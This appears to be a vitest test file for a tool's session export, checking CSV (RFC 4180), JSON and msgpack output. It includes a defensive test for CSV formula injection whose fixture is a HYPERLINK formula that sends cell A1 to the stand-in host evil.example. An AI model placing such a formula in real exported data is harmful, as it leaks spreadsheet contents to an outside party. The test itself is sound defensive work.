/**
 * src/export/csv.ts, json.ts and index.ts: CSV parsed back with an RFC 4180 parser written here
 * and compared field by field with the records, the JSON and msgpack round trips, and
 * exportSession's format check; the schemaVersion each versioned format carries and CSV does not.
 */
import { describe, expect, it } from 'vitest';
import { unpack } from 'msgpackr';
import { EXPORT_FORMATS, exportSession } from '../dist/export/index.js';
import { InvalidOptionError } from '../dist/errors.js';
import { F, FIELDS } from '../dist/probe/layout.js';
import { R } from '../dist/ring/layout.js';
import { SCHEMA_VERSION } from '../dist/schema.js';
import { GAUGES, makeInput, N } from './fixtures/export-session.js';

/** RFC 4180: records end in CRLF, fields separated by commas, quoted fields may hold , " CR LF ("" = "). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = text.length;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      if (i === n) return rows;
      continue;
    }
    throw new Error(i >= n ? 'last record not terminated by CRLF' : `unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
}

const ROW_FIELDS = FIELDS.filter((f) => f !== 'timestamp');

describe('csv', () => {
  const input = makeInput();
  const text = exportSession(input, 'csv');

  it('the test parser follows RFC 4180', () => {
    expect(parseCsv('a,"b,""c""\r\nd",\r\n1,2,3\r\n')).toEqual([['a', 'b,"c"\r\nd', ''], ['1', '2', '3']]);
    expect(() => parseCsv('a,b\n')).toThrow();
    expect(() => parseCsv('a,b')).toThrow();
    expect(() => parseCsv('a,b"c\r\n')).toThrow();
  });

  it('has the header seq,timestamp,status,processes,lagUs,<fields>,<gauges>, gauge names quoted', () => {
    expect(text.startsWith('seq,timestamp,status,processes,lagUs,pid,cpuUserUs,')).toBe(true);
    expect(text.split('\r\n')[0]!.endsWith(',queue_depth,"cache ""hits"", total"')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['seq', 'timestamp', 'status', 'processes', 'lagUs', ...ROW_FIELDS, ...GAUGES]);
  });

  it('has one CRLF row per sample, every field equal to the record (empty for NaN)', () => {
    expect(text.endsWith('\r\n')).toBe(true);
    expect(/[^\r]\n/.test(text)).toBe(false);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(N + 1);
    const cols = [R.SEQ, R.ROW + F.timestamp, R.STATUS, R.PROCESSES, R.LAG_US, ...ROW_FIELDS.map((f) => R.ROW + F[f]), R.GAUGES, R.GAUGES + 1];
    const { records, stride } = input.samples;
    for (let i = 0; i < N; i++) {
      const r = rows[i + 1]!;
      expect(r).toHaveLength(cols.length);
      cols.forEach((col, c) => {
        const v = records[i * stride + col]!;
        if (Number.isNaN(v)) expect(r[c], `row ${i} col ${c}`).toBe('');
        else expect(Number(r[c]), `row ${i} col ${c}`).toBe(v); // full precision: exact round trip
      });
    }
    expect(rows[51]![rows[0]!.indexOf('openFds')]).toBe('');
    expect(rows[1]![rows[0]!.indexOf('memoryPercent')]).toBe(String(1 / 3));
  });

  it('writes only the header for no samples', () => {
    expect(parseCsv(exportSession(makeInput({}, 0), 'csv'))).toHaveLength(1);
  });

  it('carries no schemaVersion: the first line is the header, every reader sees plain RFC 4180', () => {
    const text = exportSession(makeInput(), 'csv') as string;
    expect(text.startsWith('seq,timestamp,')).toBe(true);
    expect(text).not.toContain('schemaVersion');
  });
});

describe('csv: formula injection (OWASP), read from the raw text', () => {
  // Each prefix a spreadsheet reads as the start of a formula (or, TAB and CR, that it strips first).
  const PREFIXES = [['=', 'equals'], ['+', 'plus'], ['-', 'minus'], ['@', 'at'], ['\t', 'TAB'], ['\r', 'CR']] as const;

  it.each(PREFIXES)('a gauge name starting with %j (%s) is one quoted cell with a single quote before it', (prefix) => {
    const input = makeInput();
    const name = `${prefix}HYPERLINK("http://evil.example/?d="&A1,"x")`;
    input.samples.gaugeNames = [name, 'a=b-c'];
    const text = exportSession(input, 'csv') as string;
    const header = text.slice(0, text.indexOf('\r\n')); // a lone CR inside the name is no record end
    // The bytes: the cell opens with "' and its quotes are doubled; a name that only contains = - stays bare.
    expect(header.endsWith(`,"'${prefix}HYPERLINK(""http://evil.example/?d=""&A1,""x"")",a=b-c`)).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]!.slice(-2)).toEqual([`'${name}`, 'a=b-c']);
    expect(rows).toHaveLength(N + 1);
  });

  it('negative numbers stay bare numbers', () => {
    const input = makeInput();
    const { records, stride } = input.samples;
    const values = [-5, -0.25, -1e-7, -123456.789];
    values.forEach((v, i) => (records[i * stride + R.GAUGES] = v));
    const text = exportSession(input, 'csv') as string;
    const lines = text.split('\r\n');
    const col = parseCsv(text)[0]!.indexOf(GAUGES[0]!);
    values.forEach((v, i) => {
      const cell = lines[i + 1]!.split(',')[col]!; // no quoted field in a data row: a plain split is exact
      expect(cell).toBe(String(v));
      expect(Number(cell)).toBe(v);
    });
  });
});

describe('json', () => {
  const input = makeInput();
  const doc = JSON.parse(exportSession(input, 'json'));

  it('starts with schemaVersion, a positive integer', () => {
    expect(Number.isInteger(SCHEMA_VERSION) && SCHEMA_VERSION >= 1).toBe(true);
    expect(doc.schemaVersion).toBe(SCHEMA_VERSION);
    expect(Object.keys(doc)[0]).toBe('schemaVersion');
  });

  it('round-trips the summary (NaN as null)', () => {
    const expected = JSON.parse(JSON.stringify(input.summary));
    expect(doc.summary).toEqual(expected);
    expect(doc.summary.resources.cpuPercent).toBeNull();
    expect(doc.summary.phases[4].resources.cpuMs).toBe(42.5);
  });

  it('has one object per sample: seq, every ProcessSample field, gauges; NaN as null', () => {
    expect(doc.samples).toHaveLength(N);
    const { records, stride } = input.samples;
    for (let i = 0; i < N; i++) {
      const s = doc.samples[i];
      expect(s.seq).toBe(1000 + i);
      expect(s.status).toBe(0);
      expect(s.processes).toBe(1);
      expect(s.lagUs).toBe(records[i * stride + R.LAG_US]);
      for (const f of FIELDS) {
        const v = records[i * stride + R.ROW + F[f]]!;
        expect(s[f], `${i}.${f}`).toBe(Number.isNaN(v) ? null : v);
      }
      expect(s.gauges).toEqual({ [GAUGES[0]!]: i % 17, [GAUGES[1]!]: i * 1.5 });
    }
    expect(doc.samples[50].openFds).toBeNull();
  });

  it('includes suggestions when given, and writes bigints in metadata as strings', () => {
    const inp = makeInput({ metadata: { big: 12345678901234567890n } });
    inp.suggestions = [{ kind: 'dominant_phase', phase: 'process_startup', message: 'm', evidence: { share: 0.6 } }];
    const d = JSON.parse(exportSession(inp, 'json'));
    expect(d.summary.metadata.big).toBe('12345678901234567890');
    expect(d.suggestions).toEqual(inp.suggestions);
    expect('suggestions' in doc).toBe(false);
  });
});

describe('msgpack and exportSession', () => {
  it('packs { schemaVersion, summary, samples: { stride, count, gaugeNames, records } } with records as a Float64Array', () => {
    const input = makeInput();
    const bytes = exportSession(input, 'msgpack');
    expect(bytes).toBeInstanceOf(Uint8Array);
    const back = unpack(bytes as Uint8Array);
    expect(Object.keys(back).sort()).toEqual(['samples', 'schemaVersion', 'summary']);
    expect(back.schemaVersion).toBe(SCHEMA_VERSION);
    expect(back.summary).toEqual(input.summary); // NaN survives msgpack
    expect(back.samples.stride).toBe(input.samples.stride);
    expect(back.samples.count).toBe(N);
    expect(back.samples.gaugeNames).toEqual(GAUGES);
    expect(back.samples.records).toBeInstanceOf(Float64Array);
    expect(back.samples.records).toEqual(input.samples.records);
  });

  it('packs only the records in use', () => {
    const input = makeInput();
    const { records, stride } = input.samples;
    const bigger = new Float64Array(records.length + 3 * stride);
    bigger.set(records);
    const back = unpack(exportSession({ ...input, samples: { ...input.samples, records: bigger } }, 'msgpack') as Uint8Array);
    expect(back.samples.records).toEqual(records);
  });

  it('returns strings for the text formats', () => {
    const input = makeInput();
    for (const f of EXPORT_FORMATS) {
      const out = exportSession(input, f);
      expect(typeof out === 'string', f).toBe(f !== 'msgpack');
    }
  });

  it('rejects an unknown format naming "format"', () => {
    const input = makeInput();
    for (const bad of ['xml', '', 'CSV', undefined, 3]) {
      let err: unknown;
      try {
        exportSession(input, bad as 'csv');
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(InvalidOptionError);
      expect((err as InvalidOptionError).option).toBe('format');
      expect((err as Error).message).toContain('chrome-trace');
    }
  });
});
